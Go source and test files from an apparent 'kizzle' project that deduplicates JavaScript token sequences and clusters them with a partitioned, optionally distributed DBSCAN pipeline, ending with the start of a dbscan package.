// in-process, batch-dispatched, and streamed execution.

// lexChunkGroups is how many digest groups are lexed per pipeline chunk;
// one chunk is always being lexed while the previous one is deduplicated.
const lexChunkGroups = 64

// defaultPartitionFanout is the default number of concurrently filling
// partition buffers (Config.PartitionFanout).
const defaultPartitionFanout = 8

// emittedPartition records one emitted partition work unit with the unique
// indices behind its wire sequences (for mapping results back).
type emittedPartition struct {
	part    ShardPartition
	uniques []int
}

// clusterSession abstracts where the clustering stage's work units run.
// The pipeline drives every mode through the same calls: partitions are
// submitted as dedup emits them, collect blocks until all partition
// summaries are in, and edges serves the reduce step's distance sweeps.
type clusterSession interface {
	// submitPartition hands over one emitted partition. hostTime is the
	// host's serial-work clock at emission (for profiling dispatchers).
	submitPartition(ep emittedPartition, hostTime time.Duration)
	// collect returns one summary per submitted partition, in emission
	// order, after every partition result arrived.
	collect(u *uniqueSet) ([]summary, error)
	// edges evaluates within-eps pairs over unique indices (the edgeFunc
	// contract); valid after collect.
	edges(rows, cols []int) ([][2]int, error)
	// edgeStats reports how many edge work units were dispatched remotely
	// and the wall time spent blocked on them.
	edgeStats() (int, time.Duration)
	// preReduceTime reports wall time the coordinator spent serially
	// pre-reducing partition results — nonzero only on the batch
	// Clusterer path, where pre-reduce cannot ride inside the partition
	// executors.
	preReduceTime() time.Duration
	// close releases session resources; no calls may follow.
	close()
}

// openClusterSession picks the execution mode:
//
//   - no Clusterer: work units run in-process across cfg.Workers (streamed
//     unless cfg.BatchDispatch), reduce sweeps run in-process;
//   - StreamClusterer (and not cfg.BatchDispatch): partitions stream to
//     the fleet as emitted and reduce sweeps are dispatched as edge jobs;
//   - batch Clusterer (or cfg.BatchDispatch): partitions are collected and
//     dispatched in one protocol-v1 batch; pre-reduce and reduce sweeps
//     run on the coordinator.
func openClusterSession(cfg Config) clusterSession {
	if cfg.Clusterer != nil && !cfg.BatchDispatch {
		if sc, ok := cfg.Clusterer.(StreamClusterer); ok {
			return newStreamSession(sc, cfg)
		}
	}
	if cfg.Clusterer != nil {
		return &batchSession{cfg: cfg}
	}
	if cfg.BatchDispatch {
		return &batchSession{cfg: cfg}
	}
	return newLocalStreamSession(cfg)
}

// --- digest grouping (stage 1a) ---

// digestGroups groups inputs by content digest, verified byte-for-byte
// within a bucket, so identical raw documents — the bulk of provider
// telemetry — are lexed once and share one symbol slice. Returns the
// groups (input indices, first occurrence order) and each input's group.
func digestGroups(inputs []Input, symKind contentcache.Kind, workers int) (groups [][]int, groupOf []int) {
	n := len(inputs)
	keys := make([]contentcache.Key, n)
	parallel.ForEach(n, workers, 8, func(_, i int) {
		keys[i] = contentcache.KeyOf(symKind, inputs[i].Content)
	})
	groupOf = make([]int, n)
	index := make(map[contentcache.Key][]int, n)
	for i := 0; i < n; i++ {
		found := -1
		for _, g := range index[keys[i]] {
			if inputs[groups[g][0]].Content == inputs[i].Content {
				found = g
				break
			}
		}
		if found < 0 {
			found = len(groups)
			groups = append(groups, nil)
			index[keys[i]] = append(index[keys[i]], found)
		}
		groups[found] = append(groups[found], i)
		groupOf[i] = found
	}
	return groups, groupOf
}

// --- fused lex + dedup + emit (stages 1b–3) ---

// streamOutcome is what the fused stage hands to the reduce step.
type streamOutcome struct {
	u          uniqueSet
	uniqueDocs int
	emitWeight []int // per unique: members at partition emission
	partitions int
}

// runClusterStage lexes group representatives one chunk ahead of the dedup
// cursor, deduplicates inputs in order, and emits a partition to sess
// every time cfg.PartitionSize new uniques accumulate. The partition's
// weights are the members each unique had accumulated when its partition
// was emitted — deterministic in the input order (duplicates of an
// already-dispatched shape still join the cluster via u.members; they just
// no longer vote in that partition's density estimate).
func runClusterStage(inputs []Input, cfg Config, sess clusterSession) streamOutcome {
	prof := cfg.profile()
	symKind := profiledKind(kindRawSymbols, prof)
	groups, groupOf := digestGroups(inputs, symKind, cfg.Workers)
	groupSyms := make([][]jstoken.Symbol, len(groups))

	// Chunked look-ahead lexing: chunk k+1 lexes in the background while
	// the dedup cursor consumes chunk k.
	scratches := make([]ingest.Scratch, cfg.Workers)
	for i := range scratches {
		scratches[i] = prof.NewScratch()
	}
	lexRange := func(start, end int) {
		parallel.ForEach(end-start, cfg.Workers, 1, func(worker, k int) {
			g := start + k
			rep := groups[g][0]
			content := inputs[rep].Content
			key := contentcache.KeyOf(symKind, content)
			if v, ok := cfg.Cache.Get(key, content); ok {
				groupSyms[g] = v.([]jstoken.Symbol)
				return
			}
			syms := scratches[worker].AppendSymbols(nil, content)
			cfg.Cache.PutSized(key, content, syms, 2*len(syms))
			groupSyms[g] = syms
		})
	}
	startLex := func(start, end int) chan struct{} {
		done := make(chan struct{})
		go func() {
			lexRange(start, end)
			close(done)
		}()
		return done
	}

	var out streamOutcome
	out.uniqueDocs = len(groups)
	d := dedupEmitter{
		cfg:      cfg,
		sess:     sess,
		index:    make(map[uint64][]int),
		hashMemo: make(map[*jstoken.Symbol]uint64),
		start:    time.Now(),
	}

	total := len(groups)
	chunkEnd := min(lexChunkGroups, total)
	done := startLex(0, chunkEnd)
	cursor := 0
	for lexed := 0; lexed < total; {
		<-done
		lexed = chunkEnd
		if lexed < total {
			chunkEnd = min(lexed+lexChunkGroups, total)
			done = startLex(lexed, chunkEnd)
		}
		// Every input whose group is lexed can now be deduplicated; groups
		// are numbered by first occurrence, so those inputs form a prefix.
		limit := len(inputs)
		if lexed < total {
			limit = groups[lexed][0]
		}
		for ; cursor < limit; cursor++ {
			d.insert(cursor, groupSyms[groupOf[cursor]])
		}
	}
	d.flush()
	out.u = d.u
	out.emitWeight = d.emitWeight
	out.partitions = d.partitions
	return out
}

// dedupEmitter deduplicates symbol sequences in input order and emits
// fixed-size partitions of new uniques as they accumulate. New uniques
// are scattered round-robin across PartitionFanout open buffers — the
// streaming stand-in for the paper's random partitioning: consecutive
// stream samples (often one family's near-identical variants) land in
// different partitions, keeping each partition's pair tests mostly
// prunable by the length/histogram bounds and leaving the cross-partition
// reconciliation to the (distributed) reduce.
type dedupEmitter struct {
	cfg        Config
	sess       clusterSession
	u          uniqueSet
	index      map[uint64][]int
	hashMemo   map[*jstoken.Symbol]uint64
	buffers    [][]int // open partition buffers, filled round-robin
	next       int     // next buffer to receive a unique
	emitWeight []int
	partitions int
	start      time.Time
	blocked    time.Duration
}

func (d *dedupEmitter) insert(input int, seq []jstoken.Symbol) {
	var h uint64
	if len(seq) == 0 {
		h = hashSeq(seq)
	} else if v, ok := d.hashMemo[&seq[0]]; ok {
		h = v
	} else {
		h = hashSeq(seq)
		d.hashMemo[&seq[0]] = h
	}
	found := -1
	for _, u := range d.index[h] {
		if symbolsEqual(d.u.seqs[u], seq) {
			found = u
			break
		}
	}
	if found >= 0 {
		d.u.members[found] = append(d.u.members[found], input)
		return
	}
	found = len(d.u.seqs)
	d.u.seqs = append(d.u.seqs, seq)
	d.u.members = append(d.u.members, []int{input})
	d.u.ids = append(d.u.ids, seqID{h1: h, h2: altHashSeq(seq), n: len(seq)})
	d.emitWeight = append(d.emitWeight, 0)
	d.index[h] = append(d.index[h], found)
	if d.buffers == nil {
		fan := d.cfg.PartitionFanout
		if fan < 1 {
			fan = defaultPartitionFanout
		}
		d.buffers = make([][]int, fan)
	}
	b := d.next
	d.next = (d.next + 1) % len(d.buffers)
	d.buffers[b] = append(d.buffers[b], found)
	if len(d.buffers[b]) >= d.cfg.PartitionSize {
		d.emit(b)
	}
}

// emit dispatches buffer b as one partition, snapshotting each unique's
// member count as its clustering weight.
func (d *dedupEmitter) emit(b int) {
	pending := d.buffers[b]
	d.buffers[b] = nil
	part := ShardPartition{
		Seqs:    make([][]jstoken.Symbol, len(pending)),
		Weights: make([]int, len(pending)),
	}
	for k, ui := range pending {
		part.Seqs[k] = d.u.seqs[ui]
		part.Weights[k] = len(d.u.members[ui])
		d.emitWeight[ui] = part.Weights[k]
	}
	d.partitions++
	// The host-time stamp excludes time spent blocked on the session, so
	// profiling dispatchers see when the unit would have been ready had
	// dispatch been instantaneous.
	hostTime := time.Since(d.start) - d.blocked
	submitStart := time.Now()
	d.sess.submitPartition(emittedPartition{part: part, uniques: pending}, hostTime)
	d.blocked += time.Since(submitStart)
}

// flush emits every remaining non-empty buffer in order.
func (d *dedupEmitter) flush() {
	for b := range d.buffers {
		if len(d.buffers[b]) > 0 {
			d.emit(b)
		}
	}
}

// --- in-process sessions ---

// localStreamSession executes work units in-process across cfg.Workers
// goroutines, overlapping clustering with the host's lex/dedup loop the
// same way a remote fleet would.
type localStreamSession struct {
	cfg       Config
	u         *uniqueSet
	work      chan WorkUnit
	collected *resultCollector
	emitted   []emittedPartition
	nextSeq   int
}

func newLocalStreamSession(cfg Config) *localStreamSession {
	work := make(chan WorkUnit)
	return &localStreamSession{
		cfg:       cfg,
		work:      work,
		collected: newResultCollector(localClusterStream(work, cfg)),
	}
}

func (s *localStreamSession) submitPartition(ep emittedPartition, hostTime time.Duration) {
	s.emitted = append(s.emitted, ep)
	part := ep.part
	s.work <- WorkUnit{Seq: s.nextSeq, Emitted: int64(hostTime), Partition: &part}
	s.nextSeq++
}

func (s *localStreamSession) collect(u *uniqueSet) ([]summary, error) {
	s.u = u
	return collectSummaries(s.collected, s.emitted)
}

func (s *localStreamSession) edges(rows, cols []int) ([][2]int, error) {
	// In-process reduce sweeps run directly over the unique set with the
	// shared parallel kernel; no work units are involved.
	return localEdges(s.u, s.cfg, rows, cols)
}

func (s *localStreamSession) edgeStats() (int, time.Duration) { return 0, 0 }

func (s *localStreamSession) preReduceTime() time.Duration { return 0 }

func (s *localStreamSession) close() {
	close(s.work)
	s.collected.drain()
}

// localEdges is the in-process edgeFunc over the unique set.
func localEdges(u *uniqueSet, cfg Config, rows, cols []int) ([][2]int, error) {
	return sweepPairs(u.seqs, u.ids, cfg.Cache, rows, cols, cfg.Eps, cfg.Workers), nil
}

// batchSession queues every partition and dispatches them in one batch
// after dedup — protocol v1 and the pre-streaming cost model. Pre-reduce
// and the reduce sweeps run on the coordinator.
type batchSession struct {
	cfg       Config
	u         *uniqueSet
	emitted   []emittedPartition
	preReduce time.Duration
}

func (s *batchSession) submitPartition(ep emittedPartition, _ time.Duration) {
	s.emitted = append(s.emitted, ep)
}

func (s *batchSession) collect(u *uniqueSet) ([]summary, error) {
	s.u = u
	if s.cfg.Clusterer != nil {
		sums, preReduce, err := clusterViaClusterer(*u, s.emitted, s.cfg)
		s.preReduce = preReduce
		return sums, err
	}
	// In-process batch: run the same local executor over the queued units.
	work := make(chan WorkUnit, len(s.emitted))
	for i := range s.emitted {
		part := s.emitted[i].part
		work <- WorkUnit{Seq: i, Partition: &part}
	}
	close(work)
	collector := newResultCollector(localClusterStream(work, s.cfg))
	return collectSummaries(collector, s.emitted)
}

func (s *batchSession) edges(rows, cols []int) ([][2]int, error) {
	return localEdges(s.u, s.cfg, rows, cols)
}

func (s *batchSession) edgeStats() (int, time.Duration) { return 0, 0 }

func (s *batchSession) preReduceTime() time.Duration { return s.preReduce }

func (s *batchSession) close() {}

// --- remote streaming session ---

// streamSession drives a StreamClusterer: partitions flow to the fleet as
// dedup emits them, and the reduce step's distance sweeps are fanned out
// as edge jobs over the same stream.
type streamSession struct {
	cfg          Config
	sc           StreamClusterer
	u            *uniqueSet
	work         chan WorkUnit
	collected    *resultCollector
	emitted      []emittedPartition
	nextSeq      int
	nEdgeJobs    int
	wave         int
	dispatchWall time.Duration
	opened       time.Time
	// keyOf memoizes each unique's content address: computed once when its
	// partition is emitted, reused by every edge sweep that references it.
	keyOf map[int]SeqKey
}

func newStreamSession(sc StreamClusterer, cfg Config) *streamSession {
	work := make(chan WorkUnit)
	return &streamSession{
		cfg:       cfg,
		sc:        sc,
		work:      work,
		collected: newResultCollector(sc.ClusterStream(work, cfg)),
		opened:    time.Now(),
		keyOf:     make(map[int]SeqKey),
	}
}

func (s *streamSession) submitPartition(ep emittedPartition, hostTime time.Duration) {
	s.emitted = append(s.emitted, ep)
	part := ep.part
	// Content addresses ride along so an affinity-routing coordinator can
	// record which worker turned resident for which sequences; they are
	// stripped from the v2 wire form (json:"-").
	part.Keys = make([]SeqKey, len(part.Seqs))
	for k, ui := range ep.uniques {
		key := SeqKeyOf(part.Seqs[k])
		part.Keys[k] = key
		s.keyOf[ui] = key
	}
	s.work <- WorkUnit{Seq: s.nextSeq, Emitted: int64(hostTime), Partition: &part}
	s.nextSeq++
}

// seqKey returns the memoized content address of a unique sequence.
func (s *streamSession) seqKey(ui int) SeqKey {
	if key, ok := s.keyOf[ui]; ok {
		return key
	}
	key := SeqKeyOf(s.u.seqs[ui])
	s.keyOf[ui] = key
	return key
}

func (s *streamSession) collect(u *uniqueSet) ([]summary, error) {
	s.u = u
	return collectSummaries(s.collected, s.emitted)
}

// edges serves the reduce step's distance sweeps, optionally through a
// seeded schedule permutation (Config.ScheduleSeed): the row/col orders
// are permuted before jobs are composed, which changes every job's
// membership and chunk boundaries, and the resulting pair positions are
// mapped back to the caller's order afterwards. The pair set itself is
// order-independent (every unordered pair lands in exactly one job under
// any composition, and sweep reassembles into one sorted list), so the
// permutation diversifies the schedule without being able to change the
// output — the property the certification verifier leans on.
func (s *streamSession) edges(rows, cols []int) ([][2]int, error) {
	if s.cfg.ScheduleSeed == 0 {
		return s.sweep(rows, cols)
	}
	permR := SeededPerm(len(rows), uint64(s.cfg.ScheduleSeed))
	pRows := make([]int, len(rows))
	for i, p := range permR {
		pRows[i] = rows[p]
	}
	var pCols, permC []int
	if cols != nil {
		permC = SeededPerm(len(cols), uint64(s.cfg.ScheduleSeed)+0x9e3779b97f4a7c15)
		pCols = make([]int, len(cols))
		for i, p := range permC {
			pCols[i] = cols[p]
		}
	}
	pairs, err := s.sweep(pRows, pCols)
	if err != nil {
		return nil, err
	}
	// Map positions in the permuted orders back to the caller's positions,
	// re-establishing the ascending-pair contract for triangular sweeps.
	for i, pr := range pairs {
		a := permR[pr[0]]
		var b int
		if cols == nil {
			b = permR[pr[1]]
			if a > b {
				a, b = b, a
			}
		} else {
			b = permC[pr[1]]
		}
		pairs[i] = [2]int{a, b}
	}
	sort.Slice(pairs, func(a, b int) bool {
		if pairs[a][0] != pairs[b][0] {
			return pairs[a][0] < pairs[b][0]
		}
		return pairs[a][1] < pairs[b][1]
	})
	return pairs, nil
}

// sweep splits the sweep into jobs, submits them over the open stream,
// and reassembles the pair list in deterministic order. With a locality-
// aware dispatcher (RowPlacer) the jobs are composed from rows believed
// resident on the same worker — within-group triangles plus cross-group
// rectangles — so affinity routing ships near-zero sequence bytes for
// warm groups; otherwise the split balances pair counts across the fleet.
// Either way the pair set is independent of the chunking, so placement
// and fleet size cannot change the result.
func (s *streamSession) sweep(rows, cols []int) ([][2]int, error) {
	if len(rows) == 0 || (cols != nil && len(cols) == 0) {
		return nil, nil
	}
	sweepStart := time.Now()
	defer func() { s.dispatchWall += time.Since(sweepStart) }()
	specs := buildEdgeJobs(s.u.seqs, rows, cols, s.cfg.Eps, s.sc.StreamWorkers(), s.seqKey, s.placeRows(rows))
	s.wave++
	first := s.nextSeq
	for i := range specs {
		job := specs[i].job
		s.work <- WorkUnit{
			Seq:     s.nextSeq,
			Emitted: int64(time.Since(s.opened)),
			Wave:    s.wave,
			Edges:   &job,
		}
		s.nextSeq++
		s.nEdgeJobs++
	}
	results, err := s.collected.await(first, len(specs))
	if err != nil {
		return nil, err
	}
	var out [][2]int
	for i, r := range results {
		if r.Edges == nil {
			return nil, fmt.Errorf("edge job %d: result carries no pairs", i)
		}
		spec := specs[i]
		for _, pr := range r.Edges.Pairs {
			if pr[0] < 0 || pr[0] >= len(spec.mapRow) || pr[1] < 0 || pr[1] >= len(spec.mapCol) {
				return nil, fmt.Errorf("edge job %d: pair (%d,%d) outside job bounds", i, pr[0], pr[1])
			}
			a, b := spec.mapRow[pr[0]], spec.mapCol[pr[1]]
			if cols == nil && a > b {
				// Placement-grouped rectangles can pair a later row with an
				// earlier one; normalize so triangular sweeps keep the
				// ascending-pair contract regardless of grouping.
				a, b = b, a
			}
			out = append(out, [2]int{a, b})
		}
	}
	sort.Slice(out, func(a, b int) bool {
		if out[a][0] != out[b][0] {
			return out[a][0] < out[b][0]
		}
		return out[a][1] < out[b][1]
	})
	return out, nil
}

// placeRows asks a locality-aware dispatcher where each row's sequence is
// resident (nil when the dispatcher has no placement knowledge).
func (s *streamSession) placeRows(rows []int) []int {
	rp, ok := s.sc.(RowPlacer)
	if !ok {
		return nil
	}
	keys := make([]SeqKey, len(rows))
	for i, ui := range rows {
		keys[i] = s.seqKey(ui)
	}
	return rp.PlaceRows(keys)
}

func (s *streamSession) edgeStats() (int, time.Duration) { return s.nEdgeJobs, s.dispatchWall }

func (s *streamSession) preReduceTime() time.Duration { return 0 }

func (s *streamSession) close() {
	close(s.work)
	s.collected.drain()
}

// edgeJobSpec pairs a wire job with the mapping from its local pair
// positions back to the caller's row/col positions.
type edgeJobSpec struct {
	job    EdgeJob
	mapRow []int
	mapCol []int
}

// makeEdgeSpec assembles one wire job from row/col positions (positions
// into the caller's rows and cols slices; colPos nil means triangular).
// keyFor, when non-nil, attaches each shipped sequence's content address
// for digest-first dispatch.
func makeEdgeSpec(seqs [][]jstoken.Symbol, rows, cols []int, eps float64, keyFor func(int) SeqKey, rowPos, colPos []int) edgeJobSpec {
	nr, nc := len(rowPos), len(colPos)
	jobSeqs := make(PackedSeqs, nr+nc)
	var keys []SeqKey
	if keyFor != nil {
		keys = make([]SeqKey, nr+nc)
	}
	jobRows := make([]int, nr)
	mapRow := make([]int, nr)
	for k, p := range rowPos {
		ui := rows[p]
		jobSeqs[k] = seqs[ui]
		if keys != nil {
			keys[k] = keyFor(ui)
		}
		jobRows[k] = k
		mapRow[k] = p
	}
	if colPos == nil {
		return edgeJobSpec{
			job:    EdgeJob{Eps: eps, Seqs: jobSeqs, Rows: jobRows, Keys: keys},
			mapRow: mapRow,
			mapCol: mapRow,
		}
	}
	jobCols := make([]int, nc)
	mapCol := make([]int, nc)
	for k, p := range colPos {
		ui := cols[p]
		jobSeqs[nr+k] = seqs[ui]
		if keys != nil {
			keys[nr+k] = keyFor(ui)
		}
		jobCols[k] = nr + k
		mapCol[k] = p
	}
	return edgeJobSpec{
		job:    EdgeJob{Eps: eps, Seqs: jobSeqs, Rows: jobRows, Cols: jobCols, Keys: keys},
		mapRow: mapRow,
		mapCol: mapCol,
	}
}

// groupByPlace buckets row positions by their placement shard, ascending
// shard order with the unknown group (-1) last. Positions within a group
// stay ascending, so grouping is deterministic in the placement.
func groupByPlace(place []int) [][]int {
	byShard := make(map[int][]int)
	var shards []int
	for pos, s := range place {
		if _, ok := byShard[s]; !ok {
			shards = append(shards, s)
		}
		byShard[s] = append(byShard[s], pos)
	}
	sort.Slice(shards, func(a, b int) bool {
		// -1 (unknown) sorts last.
		if (shards[a] < 0) != (shards[b] < 0) {
			return shards[b] < 0
		}
		return shards[a] < shards[b]
	})
	groups := make([][]int, len(shards))
	for i, s := range shards {
		groups[i] = byShard[s]
	}
	return groups
}

// buildEdgeJobs splits a sweep over unique indices into wire jobs. With
// placement knowledge (place non-nil, aligned with rows, at least two
// groups) jobs follow locality: one triangle per resident group plus one
// rectangle per group pair, so each job's rows live together on one
// worker and affinity routing ships only cold bytes. Without placement,
// a triangular sweep is chunked by pair count — each chunk [lo,hi)
// yields a within-chunk triangle plus a chunk×tail rectangle — and
// bipartite sweeps split rows evenly. Every unordered pair lands in
// exactly one job under either composition, so the result is identical;
// each job ships only the sequences it references.
func buildEdgeJobs(seqs [][]jstoken.Symbol, rows, cols []int, eps float64, fleet int, keyFor func(int) SeqKey, place []int) []edgeJobSpec {
	if fleet < 1 {
		fleet = 1
	}
	var specs []edgeJobSpec
	if len(place) == len(rows) {
		if groups := groupByPlace(place); len(groups) >= 2 {
			if cols == nil {
				for gi, g := range groups {
					if len(g) >= 2 {
						specs = append(specs, makeEdgeSpec(seqs, rows, nil, eps, keyFor, g, nil))
					}
					for gj := gi + 1; gj < len(groups); gj++ {
						// Cross-group rectangle (cols drawn from rows).
						specs = append(specs, makeEdgeSpec(seqs, rows, rows, eps, keyFor, g, groups[gj]))
					}
				}
			} else {
				allCols := make([]int, len(cols))
				for k := range allCols {
					allCols[k] = k
				}
				for _, g := range groups {
					specs = append(specs, makeEdgeSpec(seqs, rows, cols, eps, keyFor, g, allCols))
				}
			}
			return specs
		}
	}
	if cols == nil {
		bounds := splitTriangular(len(rows), fleet)
		for c := 0; c+1 < len(bounds); c++ {
			lo, hi := bounds[c], bounds[c+1]
			if lo >= hi {
				continue
			}
			chunk := make([]int, hi-lo)
			for k := range chunk {
				chunk[k] = lo + k
			}
			// Within-chunk triangle.
			if hi-lo >= 2 {
				specs = append(specs, makeEdgeSpec(seqs, rows, nil, eps, keyFor, chunk, nil))
			}
			// Chunk × tail rectangle.
			if hi < len(rows) {
				tail := make([]int, len(rows)-hi)
				for k := range tail {
					tail[k] = hi + k
				}
				specs = append(specs, makeEdgeSpec(seqs, rows, rows, eps, keyFor, chunk, tail))
			}
		}
		return specs
	}
	// Bipartite: split rows evenly; every job ships the full col set.
	allCols := make([]int, len(cols))
	for k := range allCols {
		allCols[k] = k
	}
	chunk := (len(rows) + fleet - 1) / fleet
	for lo := 0; lo < len(rows); lo += chunk {
		hi := lo + chunk
		if hi > len(rows) {
			hi = len(rows)
		}
		rowPos := make([]int, hi-lo)
		for k := range rowPos {
			rowPos[k] = lo + k
		}
		specs = append(specs, makeEdgeSpec(seqs, rows, cols, eps, keyFor, rowPos, allCols))
	}
	return specs
}

// SeededPerm returns a deterministic Fisher–Yates permutation of [0,n)
// driven by a splitmix64 stream over seed. Shared by the streamed edge
// sweeps and the shard coordinator's schedule permutation so a single
// seed names one reproducible alternative schedule.
func SeededPerm(n int, seed uint64) []int {
	out := make([]int, n)
	for i := range out {
		out[i] = i
	}
	x := seed
	next := func() uint64 {
		x += 0x9e3779b97f4a7c15
		z := x
		z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
		z = (z ^ (z >> 27)) * 0x94d049bb133111eb
		return z ^ (z >> 31)
	}
	for i := n - 1; i > 0; i-- {
		j := int(next() % uint64(i+1))
		out[i], out[j] = out[j], out[i]
	}
	return out
}

// splitTriangular returns fleet+1 ascending boundaries over [0,n) chosen
// so each chunk covers a near-equal share of the triangular pair count
// (row i partners with n-1-i later rows).
func splitTriangular(n, fleet int) []int {
	total := n * (n - 1) / 2
	bounds := []int{0}
	acc, next := 0, 1
	for i := 0; i < n && next < fleet; i++ {
		acc += n - 1 - i
		if acc*fleet >= total*next {
			bounds = append(bounds, i+1)
			next++
		}
	}
	for len(bounds) < fleet+1 {
		bounds = append(bounds, n)
	}
	return bounds
}

// localClusterStream is the in-process StreamClusterer executor: work
// units are pulled from the channel by cfg.Workers goroutines. Exactly the
// remote fleet's pull-queue shape, minus the wire.
func localClusterStream(work <-chan WorkUnit, cfg Config) <-chan WorkResult {
	workers := cfg.Workers
	if workers < 1 {
		workers = 1
	}
	out := make(chan WorkResult, workers)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for unit := range work {
				out <- execLocalUnit(unit, cfg)
			}
		}()
	}
	go func() {
		wg.Wait()
		close(out)
	}()
	return out
}

// execLocalUnit executes one work unit in-process.
func execLocalUnit(unit WorkUnit, cfg Config) WorkResult {
	switch {
	case unit.Partition != nil:
		sc := ClusterPartition(*unit.Partition, cfg)
		red := PreReducePartition(*unit.Partition, sc, cfg)
		return WorkResult{Seq: unit.Seq, Reduced: &red}
	case unit.Edges != nil:
		el, err := SweepEdges(*unit.Edges, cfg.Workers, cfg.Cache)
		if err != nil {
			return WorkResult{Seq: unit.Seq, Err: err}
		}
		return WorkResult{Seq: unit.Seq, Edges: &el}
	default:
		return WorkResult{Seq: unit.Seq, Err: fmt.Errorf("pipeline: empty work unit %d", unit.Seq)}
	}
}

// --- result collection ---

// resultCollector drains a result channel in the background and lets the
// driver wait for specific sequence numbers without deadlocking the
// executor's result sends.
type resultCollector struct {
	mu      sync.Mutex
	got     map[int]WorkResult
	firstE  error
	closed  bool
	changed chan struct{}
}

func newResultCollector(results <-chan WorkResult) *resultCollector {
	c := &resultCollector{
		got:     make(map[int]WorkResult),
		changed: make(chan struct{}),
	}
	go func() {
		for r := range results {
			c.mu.Lock()
			c.got[r.Seq] = r
			if r.Err != nil && c.firstE == nil {
				c.firstE = fmt.Errorf("work unit %d: %w", r.Seq, r.Err)
			}
			c.notifyLocked()
			c.mu.Unlock()
		}
		c.mu.Lock()
		c.closed = true
		c.notifyLocked()
		c.mu.Unlock()
	}()
	return c
}

func (c *resultCollector) notifyLocked() {
	close(c.changed)
	c.changed = make(chan struct{})
}

// await blocks until every seq in [first, first+n) has a result (or the
// stream failed) and returns them in order.
func (c *resultCollector) await(first, n int) ([]WorkResult, error) {
	for {
		c.mu.Lock()
		if c.firstE != nil {
			err := c.firstE
			c.mu.Unlock()
			return nil, err
		}
		have := 0
		for i := first; i < first+n; i++ {
			if _, ok := c.got[i]; ok {
				have++
			} else {
				break
			}
		}
		if have == n {
			out := make([]WorkResult, n)
			for i := 0; i < n; i++ {
				out[i] = c.got[first+i]
			}
			c.mu.Unlock()
			return out, nil
		}
		if c.closed {
			c.mu.Unlock()
			return nil, fmt.Errorf("pipeline: result stream closed with %d of %d results", have, n)
		}
		ch := c.changed
		c.mu.Unlock()
		<-ch
	}
}

// drain waits for the underlying channel to close (after the work channel
// has been closed), so no executor goroutine is left blocked.
func (c *resultCollector) drain() {
	for {
		c.mu.Lock()
		closed := c.closed
		ch := c.changed
		c.mu.Unlock()
		if closed {
			return
		}
		<-ch
	}
}

// collectSummaries awaits every partition result and maps the summaries to
// unique indices.
func collectSummaries(c *resultCollector, emitted []emittedPartition) ([]summary, error) {
	results, err := c.await(0, len(emitted))
	if err != nil {
		return nil, err
	}
	sums := make([]summary, len(emitted))
	for pi, r := range results {
		if r.Reduced == nil {
			return nil, fmt.Errorf("partition %d: result carries no summary", pi)
		}
		s, err := mapSummary(emitted[pi].uniques, r.Reduced)
		if err != nil {
			return nil, fmt.Errorf("partition %d: %w", pi, err)
		}
		sums[pi] = s
	}
	return sums, nil
}
