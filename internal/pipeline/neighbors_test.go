package pipeline

import (
	"math/rand"
	"testing"

	"kizzle/internal/dbscan"
	"kizzle/internal/jstoken"
	"kizzle/internal/textdist"
)

// randSymbols builds a random abstract sequence; drawing lengths from a
// few bands exercises the length-window pruning at its boundaries.
func randSymbols(rng *rand.Rand, band int) []jstoken.Symbol {
	base := []int{5, 30, 60, 200}[band%4]
	n := base + rng.Intn(base)
	out := make([]jstoken.Symbol, n)
	for i := range out {
		out[i] = jstoken.Symbol(1 + rng.Intn(6))
	}
	return out
}

// TestNeighborGraphMatchesLinearScan: the length-pruned, symmetric,
// parallel region-query graph must equal the naive per-point linear scan —
// same neighbor sets, same order — so DBSCAN results are unchanged.
func TestNeighborGraphMatchesLinearScan(t *testing.T) {
	rng := rand.New(rand.NewSource(19))
	for iter := 0; iter < 10; iter++ {
		seqs := make([][]jstoken.Symbol, 60+rng.Intn(60))
		idx := make([]int, len(seqs))
		for i := range seqs {
			seqs[i] = randSymbols(rng, rng.Intn(4))
			idx[i] = i
		}
		eps := []float64{0.05, 0.10, 0.30}[iter%3]
		for _, workers := range []int{1, 4} {
			adj := neighborGraph(seqs, nil, nil, idx, eps, workers)
			ref := &dbscan.FuncNeighborer{N: len(seqs), Within: func(i, j int) bool {
				return textdist.WithinNormalized(seqs[i], seqs[j], eps)
			}}
			for i := range seqs {
				want := ref.Neighbors(i)
				got := adj.Neighbors(i)
				if len(got) != len(want) {
					t.Fatalf("eps=%.2f workers=%d point %d: got %v, want %v", eps, workers, i, got, want)
				}
				for k := range want {
					if got[k] != want[k] {
						t.Fatalf("eps=%.2f workers=%d point %d: got %v, want %v", eps, workers, i, got, want)
					}
				}
			}
			// And the clustering built on top must agree with the
			// pre-kernel serial path.
			want := dbscan.ClusterWeighted(&dbscan.CachedNeighborer{Inner: ref}, nil, 3)
			got := dbscan.ClusterWeighted(adj, nil, 3)
			for i := range want {
				if got[i] != want[i] {
					t.Fatalf("cluster mismatch at %d: %d vs %d", i, got[i], want[i])
				}
			}
		}
	}
}

// TestNeighborGraphSubsetIndices: the graph over a partition (a subset of
// unique indices) must match the linear scan over that same subset.
func TestNeighborGraphSubsetIndices(t *testing.T) {
	rng := rand.New(rand.NewSource(23))
	seqs := make([][]jstoken.Symbol, 100)
	for i := range seqs {
		seqs[i] = randSymbols(rng, rng.Intn(4))
	}
	part := rng.Perm(100)[:37]
	adj := neighborGraph(seqs, nil, nil, part, 0.10, 3)
	ref := &dbscan.FuncNeighborer{N: len(part), Within: func(i, j int) bool {
		return textdist.WithinNormalized(seqs[part[i]], seqs[part[j]], 0.10)
	}}
	for i := range part {
		want := ref.Neighbors(i)
		got := adj.Neighbors(i)
		if len(got) != len(want) {
			t.Fatalf("point %d: got %v, want %v", i, got, want)
		}
		for k := range want {
			if got[k] != want[k] {
				t.Fatalf("point %d: got %v, want %v", i, got, want)
			}
		}
	}
}
