package dbscan

import (
	"sort"

	"kizzle/internal/parallel"
)

// Neighborer answers region queries for the data set being clustered.
// Implementations typically wrap an eps-thresholded distance oracle (for
// Kizzle: normalized token edit distance <= eps).
type Neighborer interface {
	// Len returns the number of points.
	Len() int
	// Neighbors returns the indices of all points within eps of point i,
	// excluding i itself.
	Neighbors(i int) []int
}

// Noise is the cluster ID assigned to points that belong to no cluster.
const Noise = -1

// Cluster runs DBSCAN and returns a cluster ID per point. IDs are dense and
// start at 0; noise points get Noise. minPts is the minimum neighborhood
// size (including the point itself) for a point to be a core point.
func Cluster(data Neighborer, minPts int) []int {
